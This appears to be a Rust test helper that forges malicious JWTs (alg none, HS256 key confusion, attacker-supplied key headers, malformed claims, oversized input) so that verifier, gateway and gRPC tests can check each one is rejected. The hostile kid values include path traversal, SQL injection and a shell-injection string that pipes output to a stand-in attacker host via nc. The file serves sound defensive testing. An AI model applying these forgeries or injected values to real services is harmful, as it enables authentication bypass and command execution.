//! A token forger: every class of malicious token from SECURITY-TESTS.md (1-6, 8-14), built
//! against a [`TestIssuer`], with the reason a verifier must give for refusing it.
//!
//! One catalog serves three suites: the verifier library (exact reasons), the gateway (HTTP 401)
//! and orders-service (gRPC `UNAUTHENTICATED`).

use aws_lc_rs::hmac;
use serde_json::{Value, json};

use crate::TestIssuer;
use authn::RejectReason::{self, *};
use authn::jws::{b64_decode, b64_encode};

/// One forged token.
#[derive(Debug, Clone)]
pub struct Attack {
    /// The class number in SECURITY-TESTS.md.
    pub class: u8,
    pub name: String,
    pub token: String,
    /// The reasons a verifier may give (some forgeries fail at one of two equivalent checks).
    pub expected: &'static [RejectReason],
}

struct Catalog<'a> {
    issuer: &'a TestIssuer,
    attacks: Vec<Attack>,
    now: i64,
}

impl Catalog<'_> {
    fn add(
        &mut self,
        class: u8,
        name: impl Into<String>,
        token: String,
        expected: &'static [RejectReason],
    ) {
        self.attacks.push(Attack {
            class,
            name: name.into(),
            token,
            expected,
        });
    }

    fn header(&self) -> Value {
        self.issuer.header()
    }

    /// Valid claims, issued ten minutes ago so that time claims can be moved either way.
    fn claims(&self) -> Value {
        let mut claims = serde_json::to_value(self.issuer.claims(
            "victim",
            "orders:read orders:write",
            &["user"],
        ))
        .expect("claims");
        claims["iat"] = json!(self.now - 60);
        claims["nbf"] = json!(self.now - 60);
        claims
    }

    fn sign(&self, header: &Value, claims: &Value) -> String {
        self.issuer.forge(&header.to_string(), &claims.to_string())
    }

    fn with_claim(&self, name: &str, value: Value) -> String {
        let mut claims = self.claims();
        claims[name] = value;
        self.sign(&self.header(), &claims)
    }

    fn without_claim(&self, name: &str) -> String {
        let mut claims = self.claims();
        claims.as_object_mut().expect("object").remove(name);
        self.sign(&self.header(), &claims)
    }

    fn with_header(&self, name: &str, value: Value) -> String {
        let mut header = self.header();
        header[name] = value;
        self.sign(&header, &self.claims())
    }
}

fn unsigned(header: &Value, claims: &Value, signature: &str) -> String {
    format!(
        "{}.{}.{signature}",
        b64_encode(header.to_string()),
        b64_encode(claims.to_string())
    )
}

fn hs256(secret: &[u8], header: &Value, claims: &Value) -> String {
    let input = format!(
        "{}.{}",
        b64_encode(header.to_string()),
        b64_encode(claims.to_string())
    );
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
    format!("{input}.{}", b64_encode(tag.as_ref()))
}

fn der_len(len: usize) -> Vec<u8> {
    if len < 0x80 {
        vec![u8::try_from(len).expect("short length")]
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|b| *b == 0)
            .collect();
        let mut out = vec![0x80 | u8::try_from(bytes.len()).expect("length of length")];
        out.extend(bytes);
        out
    }
}

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    out.extend(der_len(content.len()));
    out.extend(content);
    out
}

fn der_integer(big_endian: &[u8]) -> Vec<u8> {
    let mut content = big_endian.to_vec();
    if content.first().is_some_and(|b| b & 0x80 != 0) {
        content.insert(0, 0);
    }
    der(0x02, &content)
}

/// The issuer's public key in every encoding an HS256-confusion attacker would try as the HMAC
/// secret: SPKI and PKCS#1, PEM (with and without the final newline, CRLF) and DER, the JWK and
/// JWKS JSON, the raw modulus and its base64url text.
fn public_key_encodings(issuer: &TestIssuer) -> Vec<(&'static str, Vec<u8>)> {
    let jwk = issuer.signer().public_jwk().clone();
    if jwk.kty != "RSA" {
        // EC and OKP keys: the JWK, the key set, the raw public key and its base64url text.
        let x = b64_decode(jwk.x.as_deref().expect("x")).expect("x");
        let mut raw = x.clone();
        if let Some(y) = jwk.y.as_deref() {
            raw.extend(b64_decode(y).expect("y"));
        }
        return vec![
            ("JWK JSON", serde_json::to_vec(&jwk).expect("json")),
            (
                "JWKS JSON",
                serde_json::to_vec(&issuer.jwks()).expect("json"),
            ),
            ("raw public key", raw),
            ("x", x),
            ("x base64url", jwk.x.clone().expect("x").into_bytes()),
        ];
    }
    let n = b64_decode(jwk.n.as_deref().expect("n")).expect("n");
    let e = b64_decode(jwk.e.as_deref().expect("e")).expect("e");
    let pkcs1 = der(0x30, &[der_integer(&n), der_integer(&e)].concat());
    let rsa_encryption: &[u8] = &[
        0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
    ];
    let bit_string = der(0x03, &[&[0u8][..], &pkcs1].concat());
    let spki = der(0x30, &[rsa_encryption, &bit_string].concat());
    let spki_pem = pem::encode(&pem::Pem::new("PUBLIC KEY", spki.clone()));
    let pkcs1_pem = pem::encode(&pem::Pem::new("RSA PUBLIC KEY", pkcs1.clone()));
    vec![
        ("SPKI PEM", spki_pem.clone().into_bytes()),
        (
            "SPKI PEM without final newline",
            spki_pem.trim_end().as_bytes().to_vec(),
        ),
        (
            "SPKI PEM with CRLF",
            spki_pem.replace('\n', "\r\n").into_bytes(),
        ),
        ("PKCS#1 PEM", pkcs1_pem.clone().into_bytes()),
        (
            "PKCS#1 PEM without final newline",
            pkcs1_pem.trim_end().as_bytes().to_vec(),
        ),
        ("SPKI DER", spki),
        ("PKCS#1 DER", pkcs1),
        ("JWK JSON", serde_json::to_vec(&jwk).expect("json")),
        (
            "JWKS JSON",
            serde_json::to_vec(&issuer.jwks()).expect("json"),
        ),
        ("raw modulus", n),
        ("modulus base64url", jwk.n.clone().expect("n").into_bytes()),
    ]
}

/// Every forged token of classes 1-6 and 8-14 against `issuer`.
///
/// `attacker` is a second issuer whose key the verifier does not trust; `sink_url` is a URL that
/// must never be fetched (class 5: `jku`, `x5u`).
pub fn catalog(issuer: &TestIssuer, attacker: &TestIssuer, sink_url: &str) -> Vec<Attack> {
    let mut c = Catalog {
        issuer,
        attacks: Vec::new(),
        now: authn::unix_now(),
    };
    let claims = c.claims();
    let valid = c.sign(&c.header(), &claims);
    let kid = issuer.kid().to_owned();

    // 1. alg none, any casing, with and without a signature segment.
    for alg in ["none", "None", "NONE", "nOnE"] {
        let header = json!({ "alg": alg, "typ": "at+jwt", "kid": kid });
        let empty_signature = unsigned(&header, &claims, "");
        c.add(
            1,
            format!("alg {alg}, empty signature"),
            empty_signature.clone(),
            &[Malformed],
        );
        c.add(
            1,
            format!("alg {alg}, two segments"),
            empty_signature.trim_end_matches('.').to_owned(),
            &[Malformed],
        );
        c.add(
            1,
            format!("alg {alg}, junk signature"),
            unsigned(&header, &claims, "AAAA"),
            &[AlgorithmNotAllowed],
        );
        c.add(
            1,
            format!("alg {alg}, real RS256 signature"),
            c.sign(&header, &claims),
            &[AlgorithmNotAllowed],
        );
    }

    // 2. Signatures and structure.
    let (signing_input, signature) = valid.rsplit_once('.').expect("three segments");
    c.add(
        2,
        "missing signature segment",
        signing_input.to_owned(),
        &[Malformed],
    );
    c.add(
        2,
        "empty signature",
        format!("{signing_input}."),
        &[Malformed],
    );
    for cut in [1, 2, 4, 40] {
        c.add(
            2,
            format!("signature truncated by {cut}"),
            format!("{signing_input}.{}", &signature[..signature.len() - cut]),
            &[BadSignature, Malformed],
        );
    }
    let mut flipped = signature.as_bytes().to_vec();
    flipped[10] = if flipped[10] == b'A' { b'B' } else { b'A' };
    c.add(
        2,
        "altered signature",
        format!(
            "{signing_input}.{}",
            String::from_utf8(flipped).expect("ascii")
        ),
        &[BadSignature],
    );
    let mut escalated = claims.clone();
    escalated["roles"] = json!(["admin"]);
    let header_b64 = signing_input.split_once('.').expect("two segments").0;
    c.add(
        2,
        "altered payload",
        format!(
            "{header_b64}.{}.{signature}",
            b64_encode(escalated.to_string())
        ),
        &[BadSignature],
    );
    c.add(
        2,
        "four segments",
        format!("{valid}.{signature}"),
        &[Malformed],
    );
    let jwe_header = b64_encode(r#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#);
    c.add(
        2,
        "five segments (a JWE)",
        format!("{jwe_header}.AAAA.AAAA.AAAA.AAAA"),
        &[Malformed],
    );
    c.add(2, "garbage", "not-a-token".to_owned(), &[Malformed]);

    // 3. Algorithm confusion: HS256 keyed with the public key, in every encoding.
    for alg in ["HS256", "hs256"] {
        let header = json!({ "alg": alg, "typ": "at+jwt", "kid": kid });
        for (encoding, secret) in public_key_encodings(issuer) {
            c.add(
                3,
                format!("{alg} with the public key as {encoding}"),
                hs256(&secret, &header, &claims),
                &[AlgorithmNotAllowed],
            );
        }
    }

    // 4. Any other algorithm, including all-zero signatures (the issuer's own algorithm, and
    // any algorithm that is not its key's, are left out: a key verifies only its own).
    let own = issuer.signer().algorithm();
    for alg in [
        "HS384", "HS512", "RS256", "ES256", "ES384", "ES512", "PS256", "PS384", "PS512", "RS384",
        "RS512", "EdDSA", "rs256", "RS256 ", "es256", "EDDSA", "Ed25519", "",
    ]
    .into_iter()
    .filter(|alg| *alg != own.as_str())
    {
        let header = json!({ "alg": alg, "typ": "at+jwt", "kid": kid });
        for len in [64, 256] {
            c.add(
                4,
                format!("alg {alg:?}, {len} zero bytes"),
                unsigned(&header, &claims, &b64_encode(vec![0u8; len])),
                &[AlgorithmNotAllowed],
            );
        }
    }
    c.add(
        4,
        "no alg",
        c.sign(&json!({ "typ": "at+jwt", "kid": kid }), &claims),
        &[Malformed],
    );
    let signature_len = match own {
        authn::jwk::Algorithm::Rs256 => 256,
        authn::jwk::Algorithm::Es256 | authn::jwk::Algorithm::EdDsa => 64,
    };
    c.add(
        4,
        format!("{own} with an all-zero signature"),
        unsigned(&c.header(), &claims, &b64_encode(vec![0u8; signature_len])),
        &[BadSignature],
    );

    // 5. Key material in the header, signed by the attacker.
    let attacker_jwk = serde_json::to_value(attacker.signer().public_jwk()).expect("jwk");
    for (member, value) in [
        ("jwk", attacker_jwk),
        ("jku", json!(sink_url)),
        ("x5u", json!(sink_url)),
        (
            "x5c",
            json!(["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]),
        ),
    ] {
        let mut header = c.header();
        header[member] = value;
        c.add(
            5,
            format!("{member}, attacker-signed, issuer's kid"),
            attacker.forge(&header.to_string(), &claims.to_string()),
            &[BadSignature],
        );
        header["kid"] = json!(attacker.kid());
        c.add(
            5,
            format!("{member}, attacker-signed, attacker's kid"),
            attacker.forge(&header.to_string(), &claims.to_string()),
            &[UnknownKey],
        );
    }

    // 6. Hostile kids.
    for (name, kid) in [
        ("path traversal", json!("../../../../etc/passwd")),
        ("SQL", json!("' OR '1'='1' --")),
        ("shell", json!("$(reboot); `id` | nc attacker 1")),
        ("NUL", json!("a\u{0}b")),
        ("CR LF", json!("a\r\nX-Injected: 1")),
        ("128 bytes, the longest allowed", json!("k".repeat(128))),
    ] {
        c.add(
            6,
            format!("kid: {name}"),
            c.with_header("kid", kid),
            &[UnknownKey],
        );
    }
    // Refused before any key lookup (so before any JWKS fetch), in a token short enough to
    // reach the header check.
    for (name, kid) in [("empty", json!("")), ("129 bytes", json!("k".repeat(129)))] {
        c.add(
            6,
            format!("kid: {name}"),
            c.with_header("kid", kid),
            &[MissingKid],
        );
    }
    c.add(
        6,
        "kid: 10 KB",
        c.with_header("kid", json!("k".repeat(10 * 1024))),
        &[MissingKid, TooLarge],
    );
    for (name, kid) in [
        ("number", json!(7)),
        ("object", json!({"a": 1})),
        ("array", json!(["x"])),
        ("null", json!(null)),
    ] {
        c.add(
            6,
            format!("kid: {name}"),
            c.with_header("kid", kid),
            &[Malformed, MissingKid],
        );
    }
    let mut no_kid = c.header();
    no_kid.as_object_mut().expect("object").remove("kid");
    c.add(6, "no kid", c.sign(&no_kid, &claims), &[MissingKid]);

    // 8. Time claims.
    let now = c.now;
    c.add(
        8,
        "exp in the past",
        c.with_claim("exp", json!(now - 31)),
        &[Expired],
    );
    for (name, exp) in [
        ("string", json!("9999999999")),
        ("null", json!(null)),
        ("float", json!(1.5)),
        ("boolean", json!(true)),
        ("array", json!([1])),
    ] {
        c.add(
            8,
            format!("exp as {name}"),
            c.with_claim("exp", exp),
            &[InvalidClaims],
        );
    }
    c.add(
        8,
        "exp overflowing",
        c.issuer.forge(
            &c.header().to_string(),
            &claims
                .to_string()
                .replacen("\"exp\":", "\"exp\":1e400,\"was_exp\":", 1),
        ),
        &[InvalidClaims],
    );
    c.add(8, "no exp", c.without_claim("exp"), &[InvalidClaims]);
    c.add(8, "no iat", c.without_claim("iat"), &[InvalidClaims]);
    c.add(
        8,
        "nbf in the future",
        c.with_claim("nbf", json!(now + 120)),
        &[NotYetValid],
    );
    c.add(
        8,
        "iat in the future",
        c.with_claim("iat", json!(now + 120)),
        &[IssuedInFuture],
    );
    let mut long_lived = claims.clone();
    long_lived["exp"] = json!(now + 3 * 3600);
    c.add(
        8,
        "lifetime above the maximum",
        c.sign(&c.header(), &long_lived),
        &[LifetimeTooLong],
    );

    // 9. Issuer and audience.
    let iss = issuer.issuer.as_str();
    for bad in [
        format!("{iss}/"),
        format!("{iss}.evil.example"),
        iss[..iss.len() - 1].to_owned(),
        iss.to_uppercase(),
    ] {
        c.add(
            9,
            format!("iss {bad:?}"),
            c.with_claim("iss", json!(bad)),
            &[WrongIssuer],
        );
    }
    c.add(
        9,
        "iss as an array",
        c.with_claim("iss", json!([iss])),
        &[InvalidClaims],
    );
    for (name, aud) in [
        ("another service", json!("payments")),
        ("empty array", json!([])),
        ("another service in an array", json!(["payments"])),
        (
            "with a trailing space",
            json!(format!("{} ", issuer.audience)),
        ),
    ] {
        c.add(
            9,
            format!("aud: {name}"),
            c.with_claim("aud", aud),
            &[WrongAudience],
        );
    }
    c.add(9, "no aud", c.without_claim("aud"), &[InvalidClaims]);

    // 10. Token types.
    for typ in [
        json!("JWT"),
        json!("id_token+jwt"),
        json!("refresh+jwt"),
        json!("at+jwt2"),
        json!(""),
        json!(null),
    ] {
        c.add(
            10,
            format!("typ {typ}"),
            c.with_header("typ", typ),
            &[WrongType],
        );
    }
    let mut untyped = c.header();
    untyped.as_object_mut().expect("object").remove("typ");
    c.add(10, "no typ", c.sign(&untyped, &claims), &[WrongType]);

    // 11. crit.
    for crit in [json!(["exp"]), json!(["b64"]), json!([]), json!(null)] {
        let mut header = c.header();
        header["crit"] = crit.clone();
        header["b64"] = json!(false);
        c.add(
            11,
            format!("crit {crit}"),
            c.sign(&header, &claims),
            &[CriticalHeader],
        );
    }

    // 12. Duplicate members, non-objects.
    let header_text = c.header().to_string();
    let claims_text = claims.to_string();
    c.add(
        12,
        "duplicate alg in the header",
        c.issuer.forge(
            &header_text.replacen('{', r#"{"alg":"none","#, 1),
            &claims_text,
        ),
        &[Malformed],
    );
    c.add(
        12,
        "duplicate sub in the payload",
        c.issuer.forge(
            &header_text,
            &claims_text.replacen('{', r#"{"sub":"admin","#, 1),
        ),
        &[InvalidClaims],
    );
    c.add(
        12,
        "duplicate unknown member",
        c.issuer.forge(
            &header_text,
            &claims_text.replacen('{', r#"{"x":1,"x":2,"#, 1),
        ),
        &[InvalidClaims],
    );
    for payload in ["[]", "\"x\"", "1", "null", "{", "{}}", "\u{feff}{}"] {
        c.add(
            12,
            format!("payload {payload:?}"),
            c.issuer.forge(&header_text, payload),
            &[InvalidClaims],
        );
    }

    // 13. Non-canonical base64url.
    let parts: Vec<&str> = valid.split('.').collect();
    for (segment, part) in parts.iter().enumerate() {
        let variants = [
            ("padding", format!("{part}=")),
            ("double padding", format!("{part}==")),
            ("leading space", format!(" {part}")),
            ("trailing newline", format!("{part}\n")),
            ("inner tab", format!("{}\t{}", &part[..4], &part[4..])),
            (
                "standard alphabet",
                part.replace('-', "+").replace('_', "/"),
            ),
        ];
        for (name, mutated) in variants {
            if mutated == *part {
                continue;
            }
            let mut token: Vec<String> = parts.iter().map(|p| (*p).to_owned()).collect();
            token[segment] = mutated;
            c.add(
                13,
                format!("segment {segment}: {name}"),
                token.join("."),
                &[Malformed, BadSignature],
            );
        }
    }
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = parts[2].chars().last().expect("signature");
    let with_bit = alphabet
        .chars()
        .nth(alphabet.find(last).expect("base64url") | 1)
        .expect("in range");
    if with_bit != last {
        c.add(
            13,
            "signature with non-zero trailing bits",
            format!(
                "{}.{}.{}{with_bit}",
                parts[0],
                parts[1],
                &parts[2][..parts[2].len() - 1]
            ),
            &[Malformed],
        );
    }

    // 14. Oversized input.
    c.add(14, "100,000 dots", ".".repeat(100_000), &[TooLarge]);
    c.add(14, "64 KB token", "a".repeat(64 * 1024), &[TooLarge]);
    let deep = format!("{}{}", "[".repeat(5_000), "]".repeat(5_000));
    c.add(
        14,
        "deeply nested JSON",
        c.issuer.forge(
            &header_text,
            &claims_text.replacen('{', &format!(r#"{{"deep":{deep},"#), 1),
        ),
        &[InvalidClaims, TooLarge],
    );

    c.attacks
}
